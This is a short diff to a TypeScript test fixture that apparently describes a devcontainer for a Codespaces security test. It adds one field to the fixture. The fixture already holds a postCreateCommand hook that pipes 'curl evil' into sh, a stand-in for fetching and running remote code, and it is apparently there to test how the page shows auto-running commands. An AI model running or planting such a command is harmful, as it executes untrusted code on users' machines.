@@ -9,6 +9,7 @@ import { NewCodespacePage } from '../NewCodespacePage.tsx'
 /** What runs by itself in the repository that tests look at, and what that gets. */
 export const wants = {
   image: 'debian',
+  build: null,
   remoteUser: null,
   commands: [{ hook: 'postCreateCommand', text: 'curl <b>evil</b> | sh' }],
   repositoryPermission: 'write' as const,
